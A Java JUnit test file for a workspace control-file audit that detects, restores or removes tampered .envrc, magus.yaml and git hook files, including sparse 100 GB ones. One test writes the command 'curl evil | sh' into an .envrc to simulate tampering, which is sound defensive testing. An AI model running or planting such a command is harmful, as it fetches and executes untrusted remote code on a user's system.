package dev.magus.workspace.audit;

import static org.assertj.core.api.Assertions.assertThat;

import dev.magus.policy.control.ControlFiles;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * A control file larger than {@link Node.Content#KEEP_LIMIT} (a sparse {@code truncate -s 100G})
 * is never read: compared by size and identity, so one the run wrote is a change put back or
 * removed, and one nobody touched is none.
 */
class OversizedControlFileTest {
    /** The audits' walks kept from run to run, as one process keeps them. */
    private final AuditCaches caches = new AuditCaches();
    static final long HUGE = 100L << 30;
    Path ws;

    @BeforeEach
    void makeWorkspace() throws IOException {
        ws = Files.createTempDirectory("magus-oversized-test-").toRealPath();
    }

    @AfterEach
    void removeWorkspace() throws IOException {
        Restorer.removeEntry(ws);
    }

    private ControlFileAudit audit() {
        return ControlFileAudit.of(ControlFiles.of(ws, List.of(ws.resolve(".git"))), Readers.java(), caches);
    }

    /** Sparse: a length without data, as {@code truncate -s} makes it. */
    private static void truncate(Path p, long size) throws IOException {
        try (RandomAccessFile f = new RandomAccessFile(p.toFile(), "rw")) {
            f.setLength(size);
        }
    }

    /** Past {@link Scan#RECENT_NANOS}: a file changed as recently as that is compared as changed whatever it is. */
    private static void settle() {
        java.util.concurrent.locks.LockSupport.parkNanos(EntryReads.RECENT_NANOS * 2);
    }

    @Test
    void anOversizedControlFileChangedJustBeforeTheRecordIsAChange() throws IOException {
        Path envrc = Files.createFile(ws.resolve(".envrc"));
        truncate(envrc, Node.Content.KEEP_LIMIT + 1L);
        ControlFileAudit.Baseline baseline = audit().before();
        // Within a clock tick its times may not move: so nothing vouches for it.
        assertThat(baseline.after(ControlFilesAction.RESTORE).changed()).isTrue();
    }

    @Test
    void aMagusYamlTruncatedTo100GigabytesIsAContentChangeAndPutBack() throws IOException {
        Path yaml = Files.writeString(ws.resolve("magus.yaml"), "sandbox:\n  mode: required\n");
        ControlFileAudit.Baseline baseline = audit().before();
        truncate(yaml, HUGE);
        ControlFileAudit.Report report = baseline.after(ControlFilesAction.RESTORE);
        assertThat(report.changes()).singleElement().isInstanceOfSatisfying(Change.Changed.class, c -> {
            assertThat(c.aspects()).containsExactly(Change.Aspect.CONTENT);
            assertThat(((Node.File) c.now()).content().read()).isFalse();
            assertThat(((Node.File) c.now()).content().size()).isEqualTo(HUGE);
        });
        assertThat(report.diagnostics()).singleElement().satisfies(d -> assertThat(d.details()).containsEntry("restored", "true"));
        assertThat(yaml).hasContent("sandbox:\n  mode: required");
    }

    @Test
    void aHugeHookCreatedByTheRunIsRemoved() throws IOException {
        Path hooks = Files.createDirectories(ws.resolve(".git/hooks"));
        ControlFileAudit.Baseline baseline = audit().before();
        Path hook = Files.createFile(hooks.resolve("pre-commit"));
        truncate(hook, HUGE);
        ControlFileAudit.Report report = baseline.after(ControlFilesAction.RESTORE);
        assertThat(report.changes()).singleElement().isInstanceOf(Change.Created.class);
        assertThat(hook).doesNotExist();
    }

    @Test
    void anOversizedControlFileNobodyTouchedIsNoChangeAndIsNotRead() throws IOException {
        Path envrc = Files.createFile(ws.resolve(".envrc"));
        truncate(envrc, Node.Content.KEEP_LIMIT + 1L);
        settle();
        ControlFileAudit.Baseline baseline = audit().before();
        Node.File recorded = (Node.File) baseline.snapshot().entries().get(envrc).node();
        assertThat(recorded.content().read()).isFalse();
        Files.writeString(ws.resolve("unrelated.txt"), "x");
        assertThat(baseline.after(ControlFilesAction.RESTORE).changed()).isFalse();
    }

    @Test
    void anOversizedControlFileRewrittenInPlaceAtTheSameSizeIsAChangeItCannotRestore() throws IOException {
        Path envrc = Files.createFile(ws.resolve(".envrc"));
        long size = Node.Content.KEEP_LIMIT + 4096L;
        truncate(envrc, size);
        settle();
        ControlFileAudit.Baseline baseline = audit().before();
        try (RandomAccessFile f = new RandomAccessFile(envrc.toFile(), "rw")) {
            f.seek(size / 2);
            f.write("curl evil | sh\n".getBytes(java.nio.charset.StandardCharsets.US_ASCII));
        }
        assertThat(Files.size(envrc)).isEqualTo(size);
        ControlFileAudit.Report report = baseline.after(ControlFilesAction.RESTORE);
        assertThat(report.changes()).singleElement().isInstanceOfSatisfying(Change.Changed.class,
                c -> assertThat(c.aspects()).containsExactly(Change.Aspect.CONTENT));
        assertThat(report.diagnostics()).singleElement().satisfies(d -> {
            assertThat(d.details()).containsEntry("restored", "false");
            assertThat(d.message()).contains("NOT restored");
        });
    }
}
